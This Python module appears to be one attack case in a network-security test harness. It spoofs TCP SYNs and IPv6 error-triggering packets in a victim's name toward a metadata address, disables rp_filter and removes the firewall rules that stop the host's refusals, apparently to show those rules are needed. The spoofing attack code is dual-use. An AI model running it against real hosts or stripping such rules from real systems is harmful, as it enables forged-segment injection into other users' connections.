"""A machine beyond another interface of the host has the host refuse a victim's connections in the metadata address's own name.

The host has the metadata address on a served bridge, so it is the host's by every interface, and no process listens on port 80: what is sent to
it in the victim's name, from a bridge that is not served or from a network card, is refused by the host itself, with a segment or an error that
is the host's own and goes to the victim. Gained: as segments_injected, for who knows the victim's port and sequence number. In the way: what
the host sends from port 80 of a metadata address to a served bridge, and its errors about TCP to one, are dropped (chains `output`, `own_errors`).
"""

import struct

import rules
import space
import wire
from attacks import errors_sent
from field import Field
from host import Host

LINK = wire.mac("02:00:00:00:08:01")
# An option that no system knows, and that has its receiver send an error (RFC 8200 §4.2).
UNKNOWN = bytes([wire.TCP, 0, 0x9E, 4, 0, 0, 0, 0])


class Attack(errors_sent.Attack):
    """The forger hears victim-6, and speaks from a network that is not served."""

    hosts = ("address", "bridge")
    attackers = ("forger",)
    proofs = (("address", 4), ("address", 6))
    # It hears only that it is refused.
    deaf = errors_sent.DEAF.replace("tcp sport 80 drop", "tcp sport 80 tcp flags & (syn | ack) == (syn | ack) drop")

    def prepare(self, host: Host) -> None:
        """The other network."""
        space.ip("netns add side\nlink add side type veth peer name eth0 netns side\nlink set side up")
        space.ip("link set eth0 up", "side")
        space.setting("net.ipv4.conf.side.rp_filter", 0)

    def attack(self, field: Field) -> None:
        """Begins each of the victim's connections once more, and sends what the host refuses with an error."""
        with open("/sys/class/net/side/address", encoding="ascii") as file:
            host = wire.mac(file.read().strip())
        space.enter("side")
        card, sent = wire.Wire(), 0
        pair = (field.own(field.victims[-1]), field.metadata)
        field.ready()
        for begin in self.overheard(field, card):
            source, destination, sequence = struct.unpack("!HHI", begin[:8])
            segment = wire.tcp(*pair, (source, destination), wire.SYN, sequence)
            card.send(wire.packet(host, LINK, pair, segment))
            if field.family == 6:
                card.send(wire.ethernet(host, LINK, wire.IPV6, wire.ipv6(*pair, UNKNOWN + segment, wire.DESTINATION_OPTIONS)))
            sent += 1
        field.report["sent"] = sent

    def weaken(self, host: Host) -> None:
        """Lets the host refuse."""
        rules.remove(r"tcp sport 80 ", "inet", "output")
        rules.remove(r"jump own_errors", "inet", "output")

    def restore(self, host: Host) -> None:
        """Removes it."""
        space.ip("link delete side\nnetns delete side")
        host.heal()
